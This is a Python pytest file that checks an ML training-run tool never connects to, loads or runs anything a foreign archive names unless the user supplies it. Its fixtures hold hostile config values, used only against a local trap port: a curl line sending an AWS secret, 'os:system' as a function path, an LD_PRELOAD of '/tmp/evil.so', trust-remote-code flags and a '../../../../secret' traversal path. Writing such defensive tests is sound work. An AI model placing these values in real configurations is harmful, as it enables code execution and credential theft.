"""An archive of somebody else's, on a command line: nothing that it names is connected to, loaded or run unasked."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from schemas import trust
from schemas.arrays import Array, BlobRef
from schemas.errors import BlobDamaged, RunNotFound, SlimeEventsError, UntrustedText
from schemas.event import Event
from schemas.prompts import Source
from schemas.references import expand
from schemas.runs import Branched
from schemas.trust import check_trusted, doubting, is_doubted, name_words, trusting
from slime_events.core.config.reach import check_reach, reaching, reaching_texts
from slime_events.core.config.settings import TrainSettings
from slime_events.core.config.toml import settings_from
from slime_events.core.run.run_folder import RunFolder
from slime_events.core.run.run_reader import open_run
from slime_events.plugins.loader import load_function
from tests import made
from tests.cli.invoke import command

restore, resume, lineage, rescore = command("restore"), command("resume"), command("lineage"), command("rescore")
SECRET = "AWS_SECRET_ACCESS_KEY"


class Trap:
    """A port that must not be connected to."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.heard = self._socket.getsockname()[1], list[bytes]()
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        try:
            while True:
                connection, _ = self._socket.accept()
                with connection:
                    connection.settimeout(1)
                    self.heard.append(connection.recv(1000))
        except OSError:
            return

    def close(self) -> None:
        self._socket.close()


@pytest.fixture(autouse=True)
def nothing_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """A process is one command: what other tests have named in this one is named by nobody."""
    monkeypatch.setattr(trust, "_named", set())


@pytest.fixture
def trap(monkeypatch: pytest.MonkeyPatch) -> Iterator[Trap]:
    monkeypatch.setenv(SECRET, "wJalrXUtn")
    trap = Trap()
    yield trap
    trap.close()
    assert not trap.heard


def archived(folder: Path, settings: dict[str, Any], branched: Branched | None = None, *more: Event) -> str:
    """An archive of a run that was started with these settings; its URL."""
    values = msgspec.to_builtins(TrainSettings())
    for component, fields in settings.items():
        values[component] |= fields
    values["run"]["run"] = "r"
    prompt = made.submitted(text="?", source=Source("f", row=1))
    events = [made.started(values, code_version="0", branched=branched), prompt, *more]
    made.archived(folder / "archive", made.recorded(*events), closed=False)
    return str(folder / "archive")


def test_restore_connects_to_no_address_of_the_archive(tmp_path: Path, trap: Trap) -> None:
    url = archived(tmp_path, {"run": {"run": "r", "nats_url": f"nats://x:${{{SECRET}}}@127.0.0.1:{trap.port}"}})
    words = ["r", url, "--runs-dir", str(tmp_path / "runs")]
    with pytest.raises(UntrustedText, match="--nats-url"):
        restore(words)
    assert not (tmp_path / "runs").exists()
    assert restore([*words, "--nats-url", ""]) == 0


def test_restore_opens_no_store_of_the_archive(tmp_path: Path, trap: Trap) -> None:
    url = archived(tmp_path, {"run": {"run": "r", "blob_url": f"http://127.0.0.1:{trap.port}/${{{SECRET}}}"}})
    words = ["r", url, "--runs-dir", str(tmp_path / "runs")]
    with pytest.raises(UntrustedText, match="--blob-url"):
        restore(words)
    assert restore([*words, "--blob-url", ""]) == 0


REACHES: list[dict[str, Any]] = [
    {"run": {"otlp_endpoint": "http://127.0.0.1:PORT/${SECRET}"}},
    {"run": {"archive_url": "http://127.0.0.1:PORT/${SECRET}"}},
    {"run": {"ray_address": "127.0.0.1:PORT"}},
    {"reward": {"rm_type": "remote_rm", "rm_url": "http://127.0.0.1:PORT/${SECRET}"}},
    {"reward": {"custom_rm_path": "os:system"}},
    {"rollout": {"dynamic_sampling_filter_path": "archive/evil.py:f"}},
    {"agents": {"agent_command": "curl http://127.0.0.1:PORT/$SECRET"}},
    {"trainer": {"train_env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}},
    {"trainer": {"megatron": {"trust-remote-code": True}}},
    {"engine": {"sglang": {"trust_remote_code": True}}},
    {"debug": {"dump_details": "/home/me"}},
]


@pytest.mark.parametrize("reaches", REACHES, ids=str)
def test_resume_of_a_restored_run_wants_each_name_from_its_user(
    tmp_path: Path, trap: Trap, capsys: pytest.CaptureFixture[str], reaches: dict[str, Any]
) -> None:
    def filled(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: filled(part) for key, part in value.items()}
        return value.replace("PORT", str(trap.port)).replace("SECRET", SECRET) if isinstance(value, str) else value

    (fields,) = reaches.values()
    url = archived(tmp_path, filled(reaches))
    words = ["r", "--runs-dir", str(tmp_path / "runs")]
    assert restore(["r", url, *words[1:]]) == 0
    name = next(name for name in reversed(fields))
    assert f"--{name.replace('_', '-')}" in capsys.readouterr().out
    with pytest.raises(UntrustedText, match=name.replace("_", "-")):
        resume(words)
    folder = RunFolder(tmp_path / "runs", "r")
    assert folder.restored.exists(), "a refused resume changes nothing"


def test_what_the_restore_was_given_is_its_user_s(tmp_path: Path) -> None:
    url = archived(tmp_path, {"run": {"run": "r", "archive_url": str(tmp_path / "archive")}})
    assert restore(["r", url, "--runs-dir", str(tmp_path / "runs")]) == 0
    folder = RunFolder(tmp_path / "runs", "r")
    assert folder.archive_url() == url
    assert folder.trusted() == {url}
    folder.restored.write_text("{")
    assert folder.trusted() == frozenset()
    assert folder.archive_url() == str(folder.archive)


@pytest.mark.parametrize("where", ["http://127.0.0.1:PORT/${SECRET}/p", "s3://b${SECRET}/p"])
def test_lineage_looks_for_no_parent_that_an_archive_names(tmp_path: Path, trap: Trap, where: str) -> None:
    where = where.replace("PORT", str(trap.port)).replace("SECRET", SECRET)
    branched = Branched(
        run="p", version=1, position=1, where=where, weights_digest="d", optimizer_digest="", cursors={}, passed={}
    )
    url = archived(tmp_path, {}, branched)

    async def look() -> None:
        async with open_run(f"{url}/r"):
            with pytest.raises(RunNotFound, match="trust-archive"):
                async with open_run(where):
                    pass

    asyncio.run(look())


def test_an_archive_s_functions_are_not_loaded(tmp_path: Path) -> None:
    url = archived(tmp_path, {"reward": {"custom_rm_path": "json:dumps"}})

    async def look() -> None:
        async with open_run(f"{url}/r"):
            with pytest.raises(UntrustedText, match="json:dumps"):
                load_function("json:dumps")
        assert load_function("json:dumps")

    asyncio.run(look())
    with pytest.raises(UntrustedText, match="custom-rm-path"):
        rescore([f"{url}/r"])


def test_a_blob_of_the_archive_leads_nowhere(tmp_path: Path) -> None:
    far = Array(dtype="int32", n=1, blob=BlobRef("../../../../secret", 4))
    (tmp_path / "secret").write_bytes(b"1234")
    event = made.submitted("h", tokens=far, source=Source("f", row=2))
    url = archived(tmp_path, {}, None, event)
    with pytest.raises(BlobDamaged):
        restore(["r", url, "--runs-dir", str(tmp_path / "runs")])


def test_a_text_is_doubted_until_it_is_named() -> None:
    with doubting(["nats://a:4222,nats://b:4222", "os:system", ""], but=["os.system"]):
        for text in ("os:system", " os:system", "nats://b:4222", "nats://a:4222,nats://b:4222"):
            with pytest.raises(UntrustedText):
                check_trusted(text)
        with pytest.raises(UntrustedText):
            expand("nats://b:4222")
        assert not any(map(is_doubted, ("", "os", "os.system", "nats://c:4222")))
        with doubting(["os:system"]):
            pass
        assert is_doubted("os:system"), "another run that is open names it too"
    assert not is_doubted("os:system")


def test_settings_of_one_s_own_reach_as_they_like() -> None:
    settings = settings_from({"reward": {"custom_rm_path": "a:b"}, "run": {"nats_url": "nats://h:1"}})
    assert reaching(settings) == {"run.nats_url": ["nats://h:1"], "reward.custom_rm_path": ["a:b"]}
    assert not reaching(TrainSettings())
    check_reach(settings)
    with doubting(["a:b"]):
        check_reach(settings, "run")
        with pytest.raises(SlimeEventsError, match="--custom-rm-path a:b"):
            check_reach(settings)


@pytest.mark.parametrize(
    ("path", "is_named"),
    [
        ("slime_events.plugins.filters.dynamic_sampling:check_reward_nonzero_std", False),
        ("slime.rollout.filter_hub.dynamic_sampling_filters.check_reward_nonzero_std", False),
        ("slime_events.plugins.loader:load_function", True),
        ("slime_events.plugins.filters.dynamic_sampling:check_reward_nonzero_std;own:f", True),
        ("my_slime.rollout.filter_hub.own", True),
    ],
)
def test_what_comes_with_this_package_needs_no_naming(path: str, is_named: bool) -> None:
    settings = settings_from({"rollout": {"dynamic_sampling_filter_path": path}})
    assert bool(reaching(settings)) is is_named


def test_a_role_of_a_run_and_the_user_s_own_settings_are_not_doubted() -> None:
    """A run that samples from an archive may have the address or the function that the archive names too."""
    with doubting(["s3://both/archive", "mine:filter", "theirs:filter"]):
        with trusting():
            assert not any(map(is_doubted, ("s3://both/archive", "mine:filter")))
        assert is_doubted("s3://both/archive")
        name_words(reaching_texts(settings_from({"rollout": {"dynamic_sampling_filter_path": "mine:filter"}})))
        assert not is_doubted("mine:filter")
        assert is_doubted("theirs:filter")
